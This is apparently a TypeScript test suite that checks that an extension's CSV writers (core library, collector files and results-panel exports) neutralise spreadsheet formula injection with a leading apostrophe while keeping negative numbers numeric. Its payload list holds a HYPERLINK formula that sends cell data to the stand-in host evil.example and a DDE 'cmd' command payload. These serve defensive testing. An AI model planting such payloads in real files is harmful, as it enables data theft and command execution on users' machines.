// No CSV the extension or mmq writes holds a cell a spreadsheet would run as a formula: every text
// cell that starts with =, +, - or @ (after any leading whitespace, full-width forms too) or with a
// tab or carriage return is written with a leading ', through every writer (core/csv.ts, the
// collector files, the results panel's export of each view); numbers stay numbers, -12 included.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { ResultDocument as ApiResult } from '../../../../core/api/schemas/document';
import { csvText } from '../../../../core/csv';
import { ResultFile, resultLine } from '../../../../core/streams/resultFile';
import type { View } from '../../../../media/results/protocol';
import { viewToCsv } from '../../../../src/features/results/exportData';

const TRIGGERS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const LEADS = ['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\t ', ' \t', '\u00a0', '\u3000'];
const PAYLOADS = [
  'HYPERLINK("http://evil.example/?d="&A2,"Open")',
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(A1:A9)',
  '',
];

/** Every trigger after every lead, with every payload; and text that starts with a tab or CR. */
const HOSTILE: readonly string[] = [
  ...TRIGGERS.flatMap((trigger) =>
    LEADS.flatMap((lead) => PAYLOADS.map((payload) => `${lead}${trigger}${payload}`)),
  ),
  '\tplain text',
  '\rplain text',
  '\t',
  '\r',
];

const BENIGN = ['Acme opens a plant', 'a=b', 'x - y', 'mail@example.com', '1+1 is two', ' plain'];

const rowsOf = (text: string): string[][] =>
  parse(text, { relax_column_count: true, record_delimiter: '\r\n' });

function assertInert(cell: string | undefined, original: string, where: string): void {
  assert.equal(cell, `'${original}`, `${where}: ${JSON.stringify(original)}`);
}

describe('CSV cells a spreadsheet would run as formulas', () => {
  it(`core/csv.ts: each of ${HOSTILE.length} generated hostile cells gets a leading '; others and numbers stay`, () => {
    const rows = HOSTILE.map((text) => [text, -12, 3.5, 'Acme']);
    const parsed = rowsOf(csvText(rows));
    assert.equal(parsed.length, HOSTILE.length);
    parsed.forEach((row, index) => {
      assertInert(row[0], HOSTILE[index]!, 'csvText');
      assert.deepEqual(row.slice(1), ['-12', '3.5', 'Acme']);
    });
    const benign = rowsOf(csvText([BENIGN]))[0];
    assert.deepEqual(benign, BENIGN);
  });

  it('a negative number is a number: written bare, as the API gave it', () => {
    assert.equal(csvText([[-12, -0.5, -1e21]]), '-12,-0.5,-1e+21\r\n');
    // The same text as a string (a title "-12") is text, and neutralised.
    assert.equal(csvText([['-12']]), "'-12\r\n");
  });

  describe('collector files (Read Collector to a File…, Save as CSV)', () => {
    let folder: string;
    beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'csv-formulas-'))));
    afterEach(() => rmSync(folder, { recursive: true, force: true }));

    const result = (text: string): ApiResult => ({
      data: {
        id: text,
        url: text,
        title: text,
        sentiment: -3,
        engagement: -12,
        lang: text,
        extra_source_attributes: { name: text, world_data: { country_code: text } },
        extra_author_attributes: { name: text },
        domain_url: text,
      },
      highlighted_data: [],
    });

    it('every text column of every result, the numbers kept', async () => {
      const path = join(folder, 'c.csv');
      const file = await ResultFile.open(path, 'csv');
      for (const text of HOSTILE) await file.write(result(text));
      await file.close();
      const [header, ...rows] = rowsOf(readFileSync(path, 'utf8'));
      const column = (name: string) => header!.indexOf(name);
      assert.equal(rows.length, HOSTILE.length);
      rows.forEach((row, index) => {
        for (const name of ['id', 'url', 'title', 'source', 'domain', 'author', 'lang', 'country'])
          assertInert(row[column(name)], HOSTILE[index]!, `collector file ${name}`);
        assert.equal(row[column('sentiment')], '-3');
        assert.equal(row[column('engagement')], '-12');
      });
      // One line alone, as a live tail appends it.
      assertInert(rowsOf(resultLine(result('=1+1'), 'csv'))[0]?.[3], '=1+1', 'resultLine');
    });
  });

  describe('Export → CSV of the results panel', () => {
    const hostileDocuments = (): View => ({
      kind: 'results',
      parameters: { offset: 0, hpp: HOSTILE.length, sort_by: 'engagement', sort_order: 'desc' },
      total: HOSTILE.length,
      documents: HOSTILE.map((text) => ({
        url: text,
        title: text,
        source: text,
        lang: text,
        country: text,
        sentiment: -4,
        engagement: 7,
      })),
    });

    it('search results: title, URL, source, language, country; sentiment -4 stays a number', () => {
      const [header, ...rows] = rowsOf(viewToCsv(hostileDocuments()));
      const column = (name: string) => header!.indexOf(name);
      rows.forEach((row, index) => {
        for (const name of ['Title', 'URL', 'Source', 'Language', 'Country'])
          assertInert(row[column(name)], HOSTILE[index]!, `results ${name}`);
        assert.equal(row[column('Sentiment')], '-4');
      });
    });

    it('top influencers: name, URL, network and the topics they matched', () => {
      const view: View = {
        kind: 'influencers',
        parameters: {},
        influencerType: 'author',
        sortCriteria: 'total',
        influencers: HOSTILE.map((text) => ({
          details: { id: text, name: text, url: text },
          network: text,
          posts: 3,
          matched_topics: [{ topic_id: text, posts_amount: 1 }],
        })),
      };
      const [header, ...rows] = rowsOf(viewToCsv(view));
      const column = (name: string) => header!.indexOf(name);
      rows.forEach((row, index) => {
        const text = HOSTILE[index]!;
        for (const name of ['Author', 'URL', 'Network'])
          assertInert(row[column(name)], text, `influencers ${name}`);
        assertInert(row[column('Matched topics')], `${text} (1)`, 'influencers topics');
        assert.equal(row[column('Posts')], '3');
      });
    });

    it('a distribution: each key (a hashtag, a term, a region); a time series: each series name', () => {
      const keys: View = {
        kind: 'histogram',
        histogramType: 'hashtag',
        parameters: {},
        result: { total_hits: 100, data: HOSTILE.map((text) => ({ ks: text, v: [1] })) },
      };
      const keyRows = rowsOf(viewToCsv(keys)).slice(1);
      keyRows.forEach((row, index) => assertInert(row[0], HOSTILE[index]!, 'distribution key'));
      const regions: View = {
        kind: 'histogram',
        histogramType: 'source_city',
        parameters: {},
        result: {
          data: HOSTILE.map((text) => ({
            key: { country_code: text, region: text, city: text, short_id: text },
            v: [1],
          })),
        },
      };
      rowsOf(viewToCsv(regions))
        .slice(1)
        .forEach((row, index) =>
          row.slice(0, 4).forEach((cell) => assertInert(cell, HOSTILE[index]!, 'city key')),
        );
      const series: View = {
        kind: 'histogram',
        histogramType: 'published',
        parameters: { interval: 'day' },
        result: {
          header: { v: [...HOSTILE] },
          data: [{ t: Date.UTC(2026, 10, 13), v: HOSTILE.map(() => 2) }],
        },
      };
      const [header, row] = rowsOf(viewToCsv(series));
      header!.slice(1).forEach((cell, index) => assertInert(cell, HOSTILE[index]!, 'series name'));
      assert.deepEqual(row, ['2026-11-13', ...HOSTILE.map(() => '2')]);
    });
  });
});
